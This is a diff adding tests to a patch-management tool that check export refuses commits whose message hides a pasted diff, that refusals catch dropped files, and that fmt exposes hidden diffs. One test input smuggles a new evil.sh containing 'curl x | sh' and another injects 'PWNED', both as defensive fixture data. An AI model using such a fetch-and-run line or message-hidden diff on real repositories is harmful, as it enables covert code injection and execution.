@@ -648,3 +648,127 @@ def test_refresh_after_a_conflict_says_not_tried_not_pending(moving: MiniFork) -
         ("0003-b.patch", "conflict"),
         ("0002-a.patch", "not-tried"),
     ]
+
+
+@pytest.mark.parametrize(
+    "pasted",
+    [
+        # a change to another file, valid on the parent
+        "diff --git a/b.py b/b.py\n--- a/b.py\n+++ b/b.py\n@@ -1,3 +1,3 @@\n b1\n-b2\n+PWNED\n b3\n",
+        # a new file
+        "diff --git a/evil.sh b/evil.sh\nnew file mode 100755\n--- /dev/null\n+++ b/evil.sh\n"
+        "@@ -0,0 +1 @@\n+curl x | sh\n",
+    ],
+)
+def test_export_refuses_a_commit_whose_message_carries_a_diff(
+    builder: RepoBuilder, pasted: str
+) -> None:
+    fork = mini_fork(builder, {"a.py": lines("a"), "b.py": lines("b")})
+    builder.git.run(["checkout", "-q", "-b", "p", "v1"], purpose="branch")
+    builder.commit("a: one\n", {"a.py": lines("a").replace("a1\n", "A1\n")})
+    bad = builder.commit(
+        "a: two\n\nAs discussed on the list:\n\n" + pasted,
+        {"a.py": lines("a").replace("a1\n", "A1\n").replace("a9\n", "A9\n")},
+    )
+    builder.checkout("main")
+    fork.write({})
+    before = snapshot_tree(fork.root)
+    result = fork.cli("export", "--from", "p")
+    assert result.code == 2, result.out
+    assert result.error_lines == [
+        f"error: {bad[:12]} a: two: its exported patch, replayed on its parent, gives another "
+        "tree than the commit",
+        "hint: an exported patch must reproduce its commit exactly (a diff pasted into the "
+        "commit message is applied with the patch: indent it or drop it); nothing was written",
+    ]
+    assert snapshot_tree(fork.root) == before
+
+
+@pytest.fixture
+def renaming(builder: RepoBuilder) -> MiniFork:
+    """One patch changing b.py, c.py and d.py; v2 changes b.py's line and renames d.py."""
+    files = {"b.py": lines("b"), "c.py": lines("c"), "d.py": lines("d")}
+    fork = mini_fork(builder, files)
+    patch = make_patch(
+        builder,
+        "v1",
+        {
+            "b.py": lines("b").replace("b10\n", "fork10\n"),
+            "c.py": lines("c").replace("c5\n", "fork5\n"),
+            "d.py": lines("d").replace("d5\n", "fork5\n"),
+        },
+        "fork: three files",
+    )
+    builder.commit(
+        "upstream: rename d.py\n",
+        {"b.py": lines("b").replace("b10\n", "up10\n"), "d.py": None, "e.py": lines("d")},
+    )
+    builder.tag("v2")
+    fork.write({"0001-three.patch": patch})
+    return fork
+
+
+def test_refresh_continue_refuses_a_resolution_that_drops_files(
+    renaming: MiniFork, tmp_path: Path
+) -> None:
+    wt = tmp_path / "resolve"
+    opened = renaming.cli("refresh", "--onto", "v2", "--worktree", wt, "--format", "json")
+    assert opened.code == 1, opened.err
+    [conflict] = opened.json()["patches"]  # type: ignore[misc]
+    assert conflict["message"].startswith("b.py: hunk 1 does not apply")
+    assert (
+        "applied with conflict markers; d.py was renamed upstream to e.py: carry its "
+        in (conflict["message"])
+    )
+    # The user resolves b.py, and leaves c.py and d.py as v2 has them.
+    (wt / "b.py").write_text(lines("b").replace("b10\n", "up10 fork10\n"))
+    (wt / "c.py").write_text(lines("c"))
+    for name in ("d.py", "d.py.rej", "e.py", "c.py.rej", "b.py.rej"):
+        (wt / name).unlink(missing_ok=True)
+    before = fork_files(renaming.root)
+    refused = renaming.cli("refresh", "--continue")
+    assert refused.code == 2
+    assert refused.error_lines == [
+        "error: the resolution of 0001-three.patch drops 2 of the 3 file(s) it changed: "
+        "c.py, d.py (renamed upstream to e.py)",
+        "hint: carry the change into each file (a renamed file under its new name) and run "
+        "'forktool refresh --continue' again; to drop them on purpose: forktool refresh "
+        "--continue --drop-file=c.py --drop-file=d.py",
+    ]
+    one = renaming.cli("refresh", "--continue", "--drop-file", "c.py")
+    assert one.code == 2
+    assert one.error_lines[0].endswith(
+        "drops 1 of the 3 file(s) it changed: d.py (renamed upstream to e.py)"
+    )
+    typo = renaming.cli("refresh", "--continue", "--drop-file", "b.py")
+    assert typo.code == 2
+    assert typo.error_lines[0] == (
+        "error: --drop-file b.py: the resolution of 0001-three.patch does not drop it "
+        "(it drops c.py, d.py)"
+    )
+    assert fork_files(renaming.root) == before
+    # The change carried into the renamed file; c.py dropped on purpose.
+    (wt / "e.py").write_text(lines("d").replace("d5\n", "fork5\n"))
+    done = renaming.cli("refresh", "--continue", "--drop-file", "c.py", "--drop-file", "d.py")
+    assert done.code == 0, done.err
+    patch = (renaming.root / "patches/0001-three.patch").read_bytes()
+    assert b"+++ b/e.py" in patch and b"c.py" not in patch
+
+
+def test_fmt_brings_a_diff_hidden_in_the_message_into_the_patch(builder: RepoBuilder) -> None:
+    # git apply takes every diff in the file: the pasted one ships either way. fmt's
+    # canonical form shows it as part of the patch, and its replay proof holds.
+    fork = mini_fork(builder, {"a.py": lines("a"), "b.py": lines("b")})
+    pasted = (
+        "diff --git a/b.py b/b.py\n--- a/b.py\n+++ b/b.py\n@@ -1,3 +1,3 @@\n b1\n-b2\n+PWNED\n b3\n"
+    )
+    patch = make_patch(
+        builder, "v1", {"a.py": lines("a").replace("a1\n", "A1\n")}, "a: one\n\nSee:\n\n" + pasted
+    )
+    fork.write({"0001-a.patch": patch})
+    result = fork.cli("fmt")
+    assert result.code == 0, result.err
+    data = (fork.root / "patches/0001-a.patch").read_bytes()
+    assert data.count(b"diff --git a/b.py b/b.py\n") == 1  # once, as the patch's own diff
+    assert b"index " in data.split(b"diff --git a/b.py b/b.py\n")[1].split(b"\n")[0]
+    assert fork.cli("verify").code == 0
